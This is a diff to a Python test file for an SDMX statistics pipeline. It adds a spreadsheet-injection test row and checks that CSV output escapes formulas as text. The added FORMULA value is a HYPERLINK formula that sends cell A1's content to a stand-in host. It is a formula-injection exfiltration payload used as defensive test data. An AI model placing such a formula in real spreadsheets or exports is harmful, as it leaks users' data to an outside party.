@@ -23,6 +23,7 @@ from pipelines.sdmx import structure as st
 from pipelines.sdmx.errors import SdmxError
 from pipelines.warehouse import lock_path
 
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"ok")'
 HOSTILE = 'He said "stop" & <b>left</b>,\nthen\x01 \u0645\u0631\u062d\u0628\u0627'
 ROWS = [
     # ref_area, time_period, indicator, domain, capability, sex, age, offence, value, unit, status, conf, submission,
@@ -44,7 +45,9 @@ ROWS = [
     ("UGA", 2021, "CJ_PROSECUTIONS", "CRIMINAL_JUSTICE", 5, "_T", "_Z", "030223", 1e-7, "PERSONS", "A", "F",
      "UGA-bbbbbbbbbbbb", "Sheet1!D9", None),
     ("BRA", 2023, "PG_LAW_GROOMING", "POLICY_GOVERNANCE", 3, "_Z", "_Z", "_Z", 1.0, "BOOL", "A", "F",
-     "BRA-cccccccccccc", "row 4, column valor", None),
+     "BRA-cccccccccccc", "row 4, column valor", FORMULA),
+    ("BRA", 2023, "CJ_CONVICTIONS", "CRIMINAL_JUSTICE", 5, "_T", "_Z", "_T", 7.0, "PERSONS", "A", "F",
+     "BRA-cccccccccccc", "row 5, column valor", "-3.5"),
 ]
 RESTRICTED = ("UGA", 2021, "PG_MNR_MATURITY", "POLICY_GOVERNANCE", 1, "_Z", "_Z", "_Z", 3.0, "CODE", "A", "F",
               "UGA-bbbbbbbbbbbb", "Sheet1!D10", None)
@@ -131,7 +134,7 @@ def expect(rows=ROWS):
     return by_key(rows)
 
 
-def assert_cells(frame: pd.DataFrame, rows=ROWS, newlines=True):
+def assert_cells(frame: pd.DataFrame, rows=ROWS, newlines=True, spreadsheet=False):
     """Every published cell once, with its value (NaN when suppressed) and attributes as published."""
     got = {}
     for idx, r in frame.reset_index().iterrows():
@@ -149,6 +152,8 @@ def assert_cells(frame: pd.DataFrame, rows=ROWS, newlines=True):
             (row[10], row[11], row[9], row[12], row[13]), k
         assert (g["MNR_DOMAIN"], str(g["MNR_CAPABILITY"])) == (row[3], str(row[4])), k
         comment = (row[14] or "").replace("\x01", "\ufffd").replace("\n", "\n" if newlines else "")
+        if spreadsheet and comment == FORMULA:     # SDMX-CSV: a formula is written as text, as in releases
+            comment = "'" + comment
         assert (g["COMMENT"] if isinstance(g["COMMENT"], str) else "") == comment, k
 
 
@@ -170,7 +175,7 @@ def test_pysdmx_reads_the_sdmx_csv_answers(warehouse):
         assert ds.short_urn == "Dataflow=MNR:DF_MNR_OCSEA(1.0.0)"
         frame = ds.data.rename(columns={"OBS_VALUE": "value"}).replace({"": None})
         frame["value"] = frame["value"].astype("float64")
-        assert_cells(frame)
+        assert_cells(frame, spreadsheet=True)
         assert body.startswith(b"DATAFLOW,REF_AREA," if accept != Q.CSV_2 else b"STRUCTURE,STRUCTURE_ID,ACTION,")
 
 
@@ -186,7 +191,7 @@ def test_sdmx1_reads_the_sdmx_csv_2_answer(warehouse, dsd, tmp_path):
                            **{k: v.value for k, v in o.attached_attribute.items()}}
                           for o in msg.data[0].obs])
     # sdmx1's CSV reader also drops a line break inside a quoted field (pysdmx and the csv module keep it).
-    assert_cells(frame, newlines=False)
+    assert_cells(frame, newlines=False, spreadsheet=True)
 
 
 def test_csv_labels_both_names_codes_in_the_language_asked_for(warehouse):
